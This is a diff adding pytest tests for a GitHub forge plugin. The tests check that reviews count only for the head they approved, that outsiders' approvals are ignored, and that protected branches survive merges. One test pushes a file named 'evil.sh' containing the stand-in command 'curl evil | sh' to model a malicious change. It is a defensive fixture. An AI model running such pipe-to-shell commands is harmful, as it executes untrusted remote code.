@@ -1,0 +1,66 @@
+"""Whose review of which head counts on GitHub, and the branches that are never deleted."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from dataclasses import replace
+
+import pytest
+
+from ennio.errors import Conflict
+from ennio.plugins.scm.github.forge import GitHubForge
+from ennio.pulls import Opinion, ReviewState
+from tests.github.standin.hub import Hub
+
+
+def _opened(hub: Hub, forge: GitHubForge, branch: str = "fix") -> tuple[int, str]:
+    head = hub.push(branch, {f"{branch.replace('/', '-')}.txt": "1\n"})
+    return forge.open(branch, "main", "t", "").number, head
+
+
+def test_an_approval_is_told_with_the_head_it_is_of(hub: Hub, forge: GitHubForge) -> None:
+    number, head = _opened(hub, forge)
+    hub.review(number, "ada", "APPROVED")
+    hub.review(number, "bob", "CHANGES_REQUESTED", "no")
+    opinions = (Opinion("ada", ReviewState.APPROVED, head), Opinion("bob", ReviewState.CHANGES_REQUESTED, head))
+    assert forge.look(number).opinions == opinions
+    hub.push("fix", {"b.txt": "2\n"})
+    pull = forge.look(number)
+    assert (pull.opinions, pull.approved_head) == (opinions, False)
+    assert [one.author for one in pull.stale + pull.answered] == ["ada", "bob"]
+
+
+def test_the_approval_of_a_stranger_is_none(hub: Hub, forge: GitHubForge) -> None:
+    number, _ = _opened(hub, forge)
+    hub.review(number, "stranger", "APPROVED", stranger=True)
+    pull = forge.look(number)
+    assert (pull.review, pull.opinions, pull.approved_head) == (ReviewState.NONE, (), False)
+    hub.review(number, "ada", "APPROVED")
+    assert forge.look(number).review is ReviewState.APPROVED
+
+
+def test_a_strangers_approval_of_a_new_head_stands_for_nobody_elses(hub: Hub, forge: GitHubForge) -> None:
+    hub.required_approvals = 1
+    number, _ = _opened(hub, forge)
+    hub.review(number, "ada", "APPROVED")
+    hub.push("fix", {"evil.sh": "curl evil | sh\n"})
+    hub.review(number, "stranger", "APPROVED", stranger=True)
+    pull = forge.look(number)
+    assert (pull.review, pull.approved_head) == (ReviewState.APPROVED, False)
+
+
+def test_an_approval_given_here_is_of_the_head_that_was_seen(hub: Hub, forge: GitHubForge) -> None:
+    number, seen = _opened(hub, forge)
+    head = hub.push("fix", {"b.txt": "2\n"})
+    with pytest.raises(Conflict, match="look at it again"):
+        forge.review(number, "person", ReviewState.APPROVED, "", head=seen)
+    pull = forge.review(number, "person", ReviewState.APPROVED, "", head=head[:7])
+    assert pull.opinions == (Opinion(hub.login, ReviewState.APPROVED, head),)
+
+
+def test_a_protected_branch_stays_after_its_merge(hub: Hub, make: Callable[..., GitHubForge]) -> None:
+    forge = make(delete_branch=True)
+    forge._project = replace(forge._project, protected_branches=("release/*",))
+    number, head = _opened(hub, forge, "release/1")
+    assert forge.merge(number, head).commit
+    assert "release/1" in hub.heads()
